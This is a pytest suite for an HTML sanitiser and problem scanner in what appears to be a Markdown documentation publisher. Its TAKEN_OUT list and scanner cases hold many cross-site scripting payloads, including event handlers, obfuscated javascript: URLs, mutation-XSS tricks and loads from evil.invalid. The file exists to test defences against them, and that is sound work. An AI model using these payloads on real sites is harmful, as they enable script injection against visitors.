"""What HTML may be published: what Markdown writes comes back as it is, everything that is taken out is named."""

from __future__ import annotations

import pytest

from gongkai.narrative import parse_narrative
from gongkai.narrative.html_policy import safe_html
from gongkai.narrative.html_scan import html_problems

AS_MARKDOWN_WRITES = [
    '<h1 id="_1">题</h1>\n<p>a<br />\nb &quot;c&quot; &amp; &lt;d&gt; &#123;&#160;e</p>\n<hr />',
    '<p><a href="../a.md#b" title="甲&quot;乙">x</a> <a href="https://example.invalid/?a=1&amp;b=2">y</a></p>',
    '<p><a href="&#109;&#97;&#105;&#108;&#116;&#111;&#58;&#97;&#64;&#98;">a&#64;b</a> <a href="tel:110">z</a></p>',
    '<p><img alt="图" src="../a.png" /><img alt="" src="data:image/png;base64,AA==" /></p>',
    '<div class="admonition note">\n<p class="admonition-title">说明</p>\n<p>文</p>\n</div>',
    '<table>\n<thead>\n<tr>\n<th style="text-align: right;">甲</th>\n</tr>\n</thead>\n</table>',
    '<div class="gk-scroll" role="region" aria-label="表格 1" tabindex="0"><table class="gk-plain"></table></div>',
    '<pre><code class="language-yaml">a: [1, 2]\n</code></pre>',
    '<ol start="3">\n<li>一</li>\n</ol>\n<dl>\n<dt>甲</dt>\n<dd>乙</dd>\n</dl>',
    '<p><sup id="fnref:1"><a class="footnote-ref" href="#fn:1">1</a></sup></p>',
    '<details class="note" open="open">\n<summary>注</summary>\n</details>',
    "<!-- 内部备注 -->\n<p>收费 < 10 元</p>",
    "gongkaislot1end",
]
WRITTEN_OTHERWISE = [
    ("<P CLASS=a>甲", '<p class="a">甲</p>'),
    ("<div><b>甲</div>", "<div><b>甲</b></div>"),
    ("<table><tr><td>1</td></tr></table>", "<table><tbody><tr><td>1</td></tr></tbody></table>"),
    ('<h2 id="_1" config="">题</h2>', '<h2 id="_1">题</h2>'),
    ("<pre>\n甲</pre>", "<pre>甲</pre>"),
]
TAKEN_OUT = [
    ("<script>alert(1)</script>", "<script>"),
    ("<SCRIPT SRC=//evil.invalid/x.js></SCRIPT>", "<script>"),
    ('<p onclick="alert(1)">a</p>', 'onclick="alert(1)"'),
    ("<img src=x onerror=alert(1)>", 'onerror="alert(1)"'),
    ("<svg onload=alert(1)></svg>", 'onload="alert(1)"'),
    ('<svg><a xlink:href="javascript:alert(1)">a</a></svg>', 'xlink:href="javascript:alert(1)"'),
    ("<svg><script>alert(1)</script></svg>", "<script>"),
    ('<svg><use href="https://evil.invalid/x.svg#a"></use></svg>', "<use>"),
    ("<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>", "<math>"),
    ('<a href="javascript:alert(1)">a</a>', 'href="javascript:alert(1)"'),
    ('<a href="JaVa&#10;Script&colon;alert(1)">a</a>', 'href="JaVa\nScript:alert(1)"'),
    ('<a href="&#1;javascript:alert(1)">a</a>', 'href="javascript:alert(1)"'),
    ('<a href="vbscript:a">a</a>', 'href="vbscript:a"'),
    ('<a href="data:text/html,<b>">a</a>', 'href="data:text/html,<b>"'),
    ('<img src="https://evil.invalid/a.png">', 'src="https://evil.invalid/a.png"'),
    ('<img src="//evil.invalid/a.png">', 'src="//evil.invalid/a.png"'),
    ('<img src="\\\\evil.invalid/a.png">', 'src="\\\\evil.invalid/a.png"'),
    ('<img src="data:text/html,a">', 'src="data:text/html,a"'),
    ('<img srcset="https://evil.invalid/a.png 2x">', 'srcset="https://evil.invalid/a.png 2x"'),
    ('<video poster="//evil.invalid/a.png"></video>', 'poster="//evil.invalid/a.png"'),
    ('<p style="background:url(//evil.invalid/a)">a</p>', 'style="background:url(//evil.invalid/a)"'),
    ("<p hidden>a</p>", 'hidden=""'),
    ("<p onclick>a</p>", 'onclick=""'),
    ('<div tabindex="9">a</div>', 'tabindex="9"'),
    ("<style>@import '//evil.invalid/a.css';</style>", "<style>"),
    ('<iframe src="a.html"></iframe>', "<iframe>"),
    ('<iframe srcdoc="<script>alert(1)</script>"></iframe>', "<iframe>"),
    ('<form action="https://evil.invalid"><input name="a"></form>', "<form>"),
    ('<input type="image" src="x" formaction="y">', "<input>"),
    ("<button>a</button>", "<button>"),
    ("<textarea></textarea>", "<textarea>"),
    ('<meta http-equiv="refresh" content="0;url=//evil.invalid">', "<meta>"),
    ('<link rel="stylesheet" href="//evil.invalid/a.css">', "<link>"),
    ('<base href="//evil.invalid/">', "<base>"),
    ('<object data="a.swf"></object>', "<object>"),
    ('<embed src="a.swf">', "<embed>"),
    ('<template><img src=x onerror="alert(1)"></template>', "<template>"),
    ('<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>', "<noscript>"),
    ('<div id="__config">{"base": "//evil.invalid"}</div>', 'id="__config"'),
    ("<p>甲</p><!-- --!><img src=x onerror=alert(1)>-->", "<!-- --!><img src=x onerror=alert(1)>-->"),
    ("<o:p>甲</o:p>", "<o:p>"),
    ('<td style="text-align: right;">甲</td>', "<td>"),
    ("<marquee>甲</marquee>", "<marquee>"),
]


@pytest.mark.parametrize("content", AS_MARKDOWN_WRITES)
def test_what_markdown_writes_comes_back_byte_for_byte(content: str) -> None:
    assert safe_html(content) == (content, "")


@pytest.mark.parametrize(("content", "written"), WRITTEN_OTHERWISE)
def test_what_a_person_writes_loosely_comes_back_in_one_way_and_nothing_is_lost(content: str, written: str) -> None:
    assert safe_html(content) == (written, "")


@pytest.mark.parametrize(("content", "lost"), TAKEN_OUT)
def test_what_runs_loads_or_imitates_is_taken_out_and_named(content: str, lost: str) -> None:
    safe, loss = safe_html(content)
    assert loss == lost
    assert safe_html(safe) == (safe, "")
    for word in ("alert(1)>", "evil.invalid/x.js", "onclick", "onload", "javascript:"):
        assert f"<{word}" not in safe
        assert f" {word}" not in safe


@pytest.mark.parametrize("content", ["<img src=x onerror=alert(1) ", "<a href='javascript:alert(1)", "甲<script"])
def test_tag_that_does_not_end_is_not_published_in_silence(content: str) -> None:
    safe, loss = safe_html(content)
    assert loss
    assert "<" not in safe


def problems(text: str) -> list[tuple[int, int, str, str]]:
    narrative, _ = parse_narrative(text, path="docs/x/2023.md")
    return [(item.line, item.column, item.why, item.text) for item in html_problems(narrative)]


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("# 题\n\n甲 <script>alert(1)</script>\n", [(3, 3, "tag", "<script")]),
        ("# 题\n\n<div>\n<iframe src='a'></iframe>\n</div>\n", [(4, 1, "tag", "<iframe")]),
        ("---\ntitle: 甲\n---\n\n甲\n乙 <b onclick='x'>丙</b>\n", [(6, 6, "event", "onclick")]),
        ("- 甲\n- 乙 [丙](javascript:alert(1))\n", [(2, 9, "address", "javascript:alert(1)")]),
        ("[甲][乙]\n\n[乙]: JAVASCRIPT:x\n", [(1, 1, "address", "JAVASCRIPT:x")]),
        ("![图](https://evil.invalid/a.png)\n", [(1, 6, "foreign", "https://evil.invalid/a.png")]),
        ("甲 *乙*{: onclick=\"x\" style='y' .z #w}\n", [(1, 9, "event", "onclick"), (1, 21, "attribute", "style")]),
        ("## 题 {: data-x=1 }\n", [(1, 9, "attribute", "data-x")]),
        ("!!! note\n\n    文字\n\n    <form>\n", [(5, 5, "tag", "<form")]),
        ("| 甲 |\n|---|\n| <style> |\n", [(3, 3, "tag", "<style")]),
        ("<!DOCTYPE html>\n", [(1, 1, "tag", "<!DOCTYPE html")]),
        ("<?php x ?>\n", [(1, 1, "tag", "<?php x ?")]),
        ('{{ figure("a") }} <u title="{{ figure("b") }}" x="y">甲</u>\n', [(1, 48, "attribute", "x")]),
    ],
)
def test_problem_has_the_line_and_column_where_it_is_written(
    text: str, expected: list[tuple[int, int, str, str]]
) -> None:
    assert problems(text) == expected


@pytest.mark.parametrize(
    "text",
    [
        "`<script>` 与\n\n```html\n<script>alert(1)</script>\n```\n\n    <iframe>\n",
        "收费 < 10 元，a<b，<https://example.invalid>，<a@b.cn>\n",
        "<!-- 备注 -->\n\n第一行<br>第二行，H<sub>2</sub>O，<u>下划线</u>\n",
        '[甲](../y/2023.md "题")，[乙](https://example.invalid)，[丙](mailto:a@b.cn)\n',
        '![图](a.png){: width="300" .x }\n',
        '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 24 24"><path d="M1 1"/></svg>\n',
        '<table>\n<tr><td colspan="2" style="text-align: center;">甲</td></tr>\n</table>\n',
        '{{ figure("申请.本年新收.总计", year=2022) }}\n\n{{ table("申请") }}\n',
        "集合 {a, b = 1}\n",
    ],
)
def test_what_may_be_published_is_no_problem(text: str) -> None:
    assert problems(text) == []
